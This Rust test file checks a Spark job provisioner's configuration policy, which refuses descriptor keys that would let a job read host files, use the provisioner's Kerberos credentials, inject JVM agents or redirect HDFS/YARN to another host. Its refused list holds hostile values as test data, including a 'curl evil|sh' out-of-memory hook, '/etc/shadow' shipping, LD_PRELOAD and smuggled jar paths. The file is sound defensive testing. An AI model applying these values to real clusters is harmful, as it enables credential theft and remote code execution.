//! The operator's conf policy: a descriptor cannot steer spark-submit into
//! reading or shipping the provisioner host's files, using its credentials,
//! loading code into a JVM, setting a process's environment or choosing
//! where the job runs. And dependencies are jars, named as Spark reads them.

use crate::descriptor_support;

use cdp_spark_domain::api::DescriptorKind;
use cdp_spark_domain::descriptor::{
    parse_request, parse_request_to_remove, ConfPolicy, DescriptorSettings,
};
use descriptor_support::{assert_has, fixture_with, issues, ok, only_issue, J, S};

const LAST_CONF_LINE: &str = "            spark.dynamicAllocation.enabled: \"false\"\n";
const DEP_LINE: &str = "            - hdfs://nameservice1/apps/shared/acme-commons-2.1.0.jar\n";

fn with_conf(entries: &[(&str, &str)]) -> String {
    let extra: String = entries
        .iter()
        .map(|(k, v)| format!("            {k}: {v}\n"))
        .collect();
    fixture_with(&[(LAST_CONF_LINE, &format!("{LAST_CONF_LINE}{extra}"))])
}

fn conf_field(key: &str) -> String {
    format!("{J}.conf[\"{key}\"]")
}

/// The hostile tester's keys, and more of each family.
const REFUSED: &[(&str, &str)] = &[
    (
        "spark.kerberos.keytab",
        "/etc/security/keytabs/cdpprov.keytab",
    ),
    ("spark.kerberos.principal", "cdpprov@EXAMPLE.COM"),
    ("spark.kerberos.access.hadoopFileSystems", "hdfs://evil"),
    ("spark.yarn.keytab", "/etc/security/keytabs/cdpprov.keytab"),
    ("spark.yarn.principal", "cdpprov@EXAMPLE.COM"),
    ("spark.yarn.access.hadoopFileSystems", "hdfs://evil"),
    ("spark.yarn.dist.files", "/etc/shadow"),
    ("spark.yarn.dist.archives", "/etc/ssh.tgz"),
    ("spark.yarn.dist.jars", "/opt/provisioner/lib.jar"),
    ("spark.files", "/etc/shadow"),
    ("spark.archives", "/etc/a.zip"),
    ("spark.jars", "/etc/shadow"),
    ("spark.jars.packages", "org.evil:agent:1.0"),
    ("spark.jars.ivySettings", "/etc/ivy.xml"),
    ("spark.driver.extraJavaOptions", "-javaagent:/tmp/agent.jar"),
    (
        "spark.executor.extraJavaOptions",
        "\"-XX:OnOutOfMemoryError=curl evil|sh\"",
    ),
    ("spark.driver.defaultJavaOptions", "-Dx=y"),
    ("spark.yarn.am.extraJavaOptions", "-Dx=y"),
    ("spark.driver.extraClassPath", "/etc"),
    ("spark.executor.extraClassPath", "/etc"),
    ("spark.driver.extraLibraryPath", "/tmp"),
    ("spark.yarn.appMasterEnv.LD_PRELOAD", "/tmp/x.so"),
    ("spark.executorEnv.JAVA_TOOL_OPTIONS", "-javaagent:/x.jar"),
    ("spark.yarn.queue", "root.admin"),
    ("spark.master", "local[*]"),
    ("spark.submit.deployMode", "client"),
    ("spark.submit.pyFiles", "/etc/shadow"),
    ("spark.yarn.jars", "/opt/evil/*"),
    ("spark.yarn.archive", "/etc/shadow"),
    ("spark.yarn.stagingDir", "hdfs:///user/other"),
    ("spark.yarn.submit.waitAppCompletion", "true"),
    ("spark.redaction.regex", "nothing"),
    ("spark.pyspark.python", "/bin/sh"),
    ("spark.r.command", "/bin/sh"),
    (
        "spark.hadoop.hadoop.security.credential.provider.path",
        "jceks://file/etc/provisioner.jceks",
    ),
    ("spark.hadoop.hadoop.token.files", "/tmp/tokens"),
    ("spark.hadoop.yarn.resourcemanager.address", "evil:8032"),
    ("spark.hadoop.fs.defaultFS", "hdfs://evil"),
    // Redefining the cluster's name service points spark-submit's staging
    // (the keytab among the staged files) at a NameNode of one's choosing.
    (
        "spark.hadoop.dfs.namenode.rpc-address.nameservice1.nn1",
        "evil:8020",
    ),
    ("spark.hadoop.dfs.ha.namenodes.nameservice1", "nn9"),
    ("spark.hadoop.dfs.nameservices", "evilns"),
    (
        "spark.hadoop.dfs.client.failover.proxy.provider.nameservice1",
        "org.evil.Provider",
    ),
    (
        "spark.hadoop.fs.viewfs.mounttable.c.linkFallback",
        "hdfs://evil/",
    ),
    (
        "spark.hadoop.fs.hdfs.impl",
        "org.apache.hadoop.fs.RawLocalFileSystem",
    ),
    ("spark.security.credentials.hive.enabled", "true"),
    ("spark.authenticate", "false"),
    ("spark.ssl.keyStore", "/etc/keystore.jks"),
    ("spark.driver.resource.gpu.discoveryScript", "/tmp/x.sh"),
    // Another spelling of the same key is no way around the policy.
    ("spark.Files", "/etc/shadow"),
    ("spark.YARN.dist.files", "/etc/shadow"),
];

#[test]
fn keys_that_steer_spark_submit_are_refused_each_naming_its_key() {
    let found = issues(&with_conf(REFUSED));
    assert_eq!(found.len(), REFUSED.len(), "{found:#?}");
    for (key, _) in REFUSED {
        assert_has(
            &found,
            &conf_field(key),
            "this provisioner's conf policy refuses",
        );
    }
    let keytab = found
        .iter()
        .find(|i| i.field == conf_field("spark.kerberos.keytab"))
        .expect("keytab issue");
    assert!(keytab.problem.contains("'spark.*kerberos*'"), "{keytab:?}");
    assert!(keytab.hint.contains("descriptor.conf_deny"), "{keytab:?}");
    let queue = found
        .iter()
        .find(|i| i.field == conf_field("spark.yarn.queue"))
        .expect("queue issue");
    assert!(queue.hint.starts_with("set specific.queue"), "{queue:?}");
}

#[test]
fn ordinary_tuning_keys_pass() {
    let d = ok(&with_conf(&[
        ("spark.sql.shuffle.partitions.x", "\"8\""),
        ("spark.executor.memoryOverhead", "1g"),
        ("spark.yarn.tags", "nightly"),
        ("spark.sql.adaptive.enabled", "true"),
        ("spark.driver.userClassPathFirst", "true"),
        ("spark.files.maxPartitionBytes", "128m"),
        ("spark.app.name", "x"),
        (
            "spark.hadoop.mapreduce.fileoutputcommitter.algorithm.version",
            "2",
        ),
        ("spark.hadoop.dfs.replication", "2"),
    ]));
    assert_eq!(d.component.specific.job_config.conf.len(), 11);
}

fn with_policy(policy: ConfPolicy) -> DescriptorSettings {
    DescriptorSettings {
        conf_policy: policy,
        ..DescriptorSettings::default()
    }
}

fn parse_with(text: &str, settings: &DescriptorSettings) -> Vec<(String, String)> {
    match parse_request(DescriptorKind::ComponentDescriptor, text, settings) {
        Ok(_) => Vec::new(),
        Err(issues) => issues
            .iter()
            .map(|i| (i.field.clone(), i.problem.clone()))
            .collect(),
    }
}

#[test]
fn the_operator_extends_replaces_or_allow_lists() {
    let text = with_conf(&[
        ("spark.sql.warehouse.dir", "/w"),
        ("spark.files", "/etc/shadow"),
    ]);
    // Extra deny patterns on top of the built-in list.
    let found = parse_with(
        &text,
        &with_policy(ConfPolicy {
            deny: vec!["spark.sql.warehouse.*".into()],
            ..ConfPolicy::default()
        }),
    );
    assert_eq!(found.len(), 2, "{found:#?}");
    assert!(found
        .iter()
        .any(|(f, p)| f == &conf_field("spark.sql.warehouse.dir")
            && p.contains("descriptor.conf_deny")));

    // The built-in list replaced: only the operator's patterns.
    let found = parse_with(
        &text,
        &with_policy(ConfPolicy {
            builtin_deny: false,
            deny: vec!["spark.sql.warehouse.*".into()],
            allow: None,
        }),
    );
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].0, conf_field("spark.sql.warehouse.dir"));

    // An allow-list: only matching keys; the deny-list still applies.
    let found = parse_with(
        &text,
        &with_policy(ConfPolicy {
            allow: Some(vec![
                "spark.sql.*".into(),
                "spark.dynamicAllocation.*".into(),
            ]),
            ..ConfPolicy::default()
        }),
    );
    let fields: Vec<&str> = found.iter().map(|(f, _)| f.as_str()).collect();
    assert_eq!(fields, [conf_field("spark.files")], "{found:#?}");
    let found = parse_with(
        &with_conf(&[("spark.executor.instances", "2")]),
        &with_policy(ConfPolicy {
            allow: Some(vec![
                "spark.sql.*".into(),
                "spark.dynamicAllocation.*".into(),
            ]),
            ..ConfPolicy::default()
        }),
    );
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].0, conf_field("spark.executor.instances"));
    assert!(found[0].1.contains("does not allow"), "{found:#?}");

    // No policy at all.
    assert!(parse_with(&text, &with_policy(ConfPolicy::permissive())).is_empty());
}

#[test]
fn a_job_provisioned_before_the_policy_can_still_be_unprovisioned() {
    let text = with_conf(&[("spark.yarn.dist.files", "/etc/shadow")]);
    only_issue(
        &text,
        &conf_field("spark.yarn.dist.files"),
        "conf policy refuses",
    );
    let d = parse_request_to_remove(
        DescriptorKind::ComponentDescriptor,
        &text,
        &DescriptorSettings::default(),
    )
    .expect("unprovision needs only the key");
    assert_eq!(
        d.component.specific.job_name.as_str(),
        "finance-cashflow-0-daily-aggregation-development"
    );
}

#[test]
fn dependencies_must_name_jars_as_spark_reads_them() {
    for (dep, problem) in [
        (
            "/etc/shadow",
            "does not end with .jar: dependencies must be jars",
        ),
        ("hdfs:///apps/conf.xml", "does not end with .jar"),
        ("/etc/shadow#x.jar", "contains '#'"),
        ("hdfs://ns1/secret?x=.jar", "contains '?'"),
        ("/opt/a.jar,/etc/shadow.jar", "contains ','"),
    ] {
        only_issue(
            &fixture_with(&[(DEP_LINE, &format!("            - \"{dep}\"\n"))]),
            &format!("{J}.dependencies[0]"),
            problem,
        );
    }
    only_issue(
        &fixture_with(&[(
            "        jar: hdfs://nameservice1/apps/finance/cashflow/0.3.1/cashflow-aggregation-0.3.1.jar\n",
            "        jar: /etc/shadow#app.jar\n",
        )]),
        &format!("{S}.jar"),
        "contains '#'",
    );
    only_issue(
        &fixture_with(&[(
            "        jar: hdfs://nameservice1/apps/finance/cashflow/0.3.1/cashflow-aggregation-0.3.1.jar\n",
            "        jar: --app.jar\n",
        )]),
        &format!("{S}.jar"),
        "starts with '-'",
    );
    let d = ok(&fixture_with(&[(
        DEP_LINE,
        "            - /opt/lib/a.JAR\n            - file:///opt/lib/b.jar\n",
    )]));
    assert_eq!(d.component.specific.job_config.dependencies.len(), 2);
}
